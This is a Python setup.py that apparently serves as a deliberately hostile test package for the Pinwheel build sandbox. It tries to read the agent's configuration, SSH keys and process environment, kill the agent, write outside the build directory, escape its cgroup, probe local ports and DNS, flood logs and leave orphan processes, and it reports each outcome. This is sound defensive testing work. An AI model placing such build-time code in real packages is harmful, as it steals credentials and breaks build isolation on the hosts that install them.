"""A hostile build: what a stranger's setup.py could try on a Pinwheel builder.

Version 1.0 tries, as the build user, to read the agent's configuration
(found from the agent's command line) and SSH key, to write outside its build
directory, to kill the agent, to leave a process running after the build and
to flood the build's log with 100 MB, to move itself out of its cgroup and,
when its network is restricted (it has a proxy), to open TCP connections to
every port listening on the host but its proxy's and to send a DNS query,
then fails. Each attempt prints a line:
``HOSTILE <what>: refused (...)`` or ``HOSTILE-SUCCEEDED <what>: ...``.
Writing to the shared /tmp succeeds (``HOSTILE-TMP``): the sandbox must delete it.

Version 2.0 starts children (one in a session of its own) and hangs, for the
time limit.
"""

import glob
import os
import re
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

VERSION = re.search(r'(?m)^version = "(.*)"$', Path("pyproject.toml").read_text()).group(1)
REPORT = []


def say(line):
    REPORT.append(line)
    print(line, flush=True)


def attempt(what, action):
    try:
        result = action()
    except OSError as exc:
        say(f"HOSTILE {what}: refused ({type(exc).__name__}: {exc.strerror})")
    else:
        say(f"HOSTILE-SUCCEEDED {what}: {str(result)[:300]!r}")


def agent_processes():
    """(pid, argv) of every visible `pinwheel agent` process."""
    found = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as fh:
                argv = [a.decode(errors="replace") for a in fh.read().split(b"\0")]
        except OSError:
            continue
        if "agent" in argv and "--config" in argv:
            found.append((int(path.split("/")[2]), argv))
    return found


def read(path):
    with open(path, "rb") as fh:
        return fh.read(4096)


def write(path):
    with open(path, "w") as fh:
        fh.write("pwned by pwtest-hostile\n")
    return path


def listening_ports():
    """TCP ports listening on any or a loopback IPv4 address (from /proc/net/tcp)."""
    ports = set()
    try:
        with open("/proc/net/tcp") as fh:
            for line in fh.readlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                addr, port = local.split(":")
                if state == "0A" and addr in ("00000000", "0100007F"):
                    ports.add(int(port, 16))
    except OSError:
        pass
    return sorted(ports)


def connect(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"


def dns_query():
    server = "127.0.0.1"
    try:
        with open("/etc/resolv.conf") as fh:
            for line in fh:
                if line.startswith("nameserver") and "." in line:
                    server = line.split()[1]
                    break
    except OSError:
        pass
    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
             b"\x07example\x03org\x00\x00\x01\x00\x01")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(query, (server, 53))
    return f"sent to {server}"


def network():
    proxy = os.environ.get("http_proxy", "")
    proxy_port = int(proxy.rsplit(":", 1)[1].strip("/")) if proxy.count(":") == 2 else None
    ports = [p for p in listening_ports() if p != proxy_port][:100]
    say(f"HOSTILE found {len(ports)} listening port(s) besides the proxy {proxy or '(none)'}")
    for port in ports:
        attempt(f"connect 127.0.0.1:{port}", lambda p=port: connect(p))
    attempt("send a DNS query", dns_query)


def escape_cgroup():
    """Move this process out of the build's cgroup, into its parents (the agent's)."""
    try:
        with open("/proc/self/cgroup") as fh:
            path = next(line.split("::", 1)[1].strip() for line in fh if line.startswith("0::"))
        with open("/proc/self/mountinfo") as fh:
            mount = next(line.split()[4] for line in fh if " - cgroup2 " in line)
    except (OSError, StopIteration):
        say("HOSTILE found no cgroup v2")
        return
    say(f"HOSTILE is in the cgroup {path}")
    parent = Path(mount + path).parent
    for target in (parent / "agent", parent, Path(mount)):
        attempt(f"move into cgroup {target}",
                lambda t=target: (t / "cgroup.procs").write_text(str(os.getpid())))


def hostile():
    agents = agent_processes()
    say(f"HOSTILE found {len(agents)} agent process(es)")
    configs = {argv[argv.index("--config") + 1] for _, argv in agents}
    configs.add("/etc/pinwheel/agent.conf")
    for conf in sorted(configs):
        attempt(f"read config {conf}", lambda c=conf: read(c))
        attempt(f"write config {conf}", lambda c=conf: write(c))
    keys = ["/var/lib/pinwheel-agent/.ssh/id_ed25519"]
    keys += [d + "/id_ed25519" for d in glob.glob("/tmp/pinwheel-sshd-*/keys/*")]
    for key in keys:
        attempt(f"read key {key}", lambda k=key: read(k))
    for pid, _ in agents:
        attempt(f"kill agent {pid}", lambda p=pid: os.kill(p, signal.SIGKILL))
        attempt(f"read agent {pid} environment", lambda p=pid: read(f"/proc/{p}/environ"))
    tree = Path(os.environ["HOME"])           # <work_dir>/builds/job-N/tree
    work = tree.parents[2]
    for target in (work / "pwned", work / "builds" / "pwned", tree.parent / "pwned",
                   work / "outbox" / "pwned", Path("/etc/pwned-by-pwtest-hostile"),
                   Path("/usr/local/bin/pwned-by-pwtest-hostile")):
        attempt(f"write {target}", lambda t=target: write(t))
    for outbox in glob.glob(str(work / "outbox" / "*")):
        attempt(f"write into {outbox}", lambda o=outbox: write(o + "/build.log"))
    if os.environ.get("http_proxy"):
        network()
    else:
        say("HOSTILE sees an open network (no proxy): not probing it")
    escape_cgroup()
    tmp = "/tmp/pwtest-hostile-was-here"
    write(tmp)
    say(f"HOSTILE-TMP wrote {tmp}")
    # A process left behind, in a session of its own, holding the log open.
    subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 1; done"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    say("HOSTILE left a background process")


def flood(size=100 << 20):
    """100 MB into the build's log: pip's own stdout if we can reach it, else ours."""
    out = None
    pid = os.getppid()
    while pid > 1 and out is None:
        try:
            argv = read(f"/proc/{pid}/cmdline").split(b"\0")
            if b"pip" in argv and b"wheel" in argv:
                out = open(f"/proc/{pid}/fd/1", "wb")  # noqa: SIM115
            stat = read(f"/proc/{pid}/stat").decode()
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    say(f"HOSTILE flooding {'pip stdout' if out else 'own stdout'}")
    out = out or sys.stdout.buffer
    line = b"HOSTILE-NOISE " + b"x" * 1009 + b"\n"
    for _ in range(size // len(line) + 1):
        out.write(line)
    out.flush()
    say(f"HOSTILE flooded {size} bytes")


if VERSION.startswith("2."):
    subprocess.Popen(["sleep", "3600"])
    subprocess.Popen(["sleep", "3601"], start_new_session=True)
    say("HOSTILE hanging")
    time.sleep(3600)
else:
    hostile()
    flood()
    print("\n".join(REPORT), file=sys.stderr, flush=True)
    sys.exit("pwtest-hostile fails on purpose after its attacks")
